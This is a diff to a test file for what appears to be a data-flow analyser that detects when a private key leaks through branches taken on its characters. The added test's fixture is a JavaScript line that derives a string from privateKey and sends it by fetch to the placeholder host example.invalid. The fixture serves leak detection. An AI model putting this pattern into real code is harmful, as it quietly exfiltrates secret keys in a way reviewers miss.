@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { analyseSources } from './testing/analyseSources.ts';
 import { type KeyProgram, keySentInJavaScript } from './testing/keySent.ts';
 
 /** A key that is told by the branches taken, and never handed on. */
@@ -105,5 +106,11 @@ const NOT_TOLD: readonly KeyProgram[] = [
 describe('a key told letter by letter', () => {
   it.each([...TOLD, ...NOT_TOLD])('%s', async (_, before, body, isSent) => {
     expect((await keySentInJavaScript(before, body)).length > 0).toBe(isSent);
+  });
+  it('says so', async () => {
+    const { flows } = await analyseSources({
+      'a.js': `exports.main = (privateKey) => { let s = ''; for (const c of privateKey) { if (c === 'a') s += 'q' } fetch('https://example.invalid/' + s) }`,
+    });
+    expect(flows[0]?.points.map(({ what }) => what)).toContain('is told by the branch that is taken');
   });
 });
